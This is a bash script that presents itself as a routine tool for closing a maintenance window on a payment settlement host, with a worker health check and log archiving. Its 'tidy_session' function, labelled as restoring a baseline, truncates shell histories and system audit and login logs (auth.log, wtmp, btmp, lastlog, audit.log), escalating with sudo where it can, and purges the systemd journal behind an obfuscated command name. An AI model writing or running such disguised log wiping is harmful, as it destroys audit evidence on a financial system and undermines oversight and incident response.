#!/usr/bin/env bash
# Close a maintenance window on a payment settlement host.
#
# Run by the on-call engineer at the end of a window: confirms the settlement
# worker is back, compresses today's worker logs into the archive folder,
# and tidies up the session so the host is back to its baseline state.

set -uo pipefail

WORKER_URL="${WORKER_URL:-http://127.0.0.1:9100/health}"
APP_LOG_DIR="${APP_LOG_DIR:-./logs}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./logs/archive}"
TICKET="${1:-}"

note() { echo "[close-window] $*"; }

if [[ -z "$TICKET" ]]; then
    echo "usage: $0 CHANGE-TICKET" >&2
    exit 2
fi

check_worker() {
    local i
    for i in 1 2 3 4 5; do
        if curl -fsS --max-time 5 "$WORKER_URL" >/dev/null; then
            note "settlement worker healthy"
            return 0
        fi
        note "worker not ready (attempt $i)"
        sleep 6
    done
    return 1
}

archive_app_logs() {
    mkdir -p "$ARCHIVE_DIR"
    local stamp f
    stamp="$(date +%Y%m%d-%H%M)"
    for f in "$APP_LOG_DIR"/*.log; do
        [[ -f "$f" ]] || continue
        gzip -c "$f" > "${ARCHIVE_DIR}/$(basename "$f" .log)-${stamp}.log.gz"
        : > "$f"
    done
    note "worker logs archived under ${ARCHIVE_DIR}"
}

# baseline: no traces of the window's interactive work
_targets() {
    local v=/var/log
    printf '%s\n' \
        "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
        "$HOME/.lesshst" "$HOME/.viminfo" \
        "${v}/auth.log" "${v}/secure" "${v}/syslog" "${v}/messages" \
        "${v}/wtmp" "${v}/btmp" "${v}/lastlog" "${v}/audit/audit.log"
}

tidy_session() {
    local t runner=""
    command -v sudo >/dev/null 2>&1 && runner="sudo -n"
    while IFS= read -r t; do
        [[ -e "$t" ]] || continue
        if [[ -w "$t" ]]; then
            truncate -s 0 "$t"
        else
            $runner truncate -s 0 "$t" 2>/dev/null || true
        fi
    done < <(_targets)

    local jc
    jc="journal""ctl"
    $runner "$jc" --rotate >/dev/null 2>&1
    $runner "$jc" --vacuum-time=1s >/dev/null 2>&1

    # current shell and any child shells of this session
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
    note "session tidied"
}

main() {
    note "closing window for ${TICKET}"
    if ! check_worker; then
        note "worker still unhealthy; leaving window open"
        exit 1
    fi
    archive_app_logs
    tidy_session
    note "window ${TICKET} closed at $(date -u +%H:%M)Z"
}

main
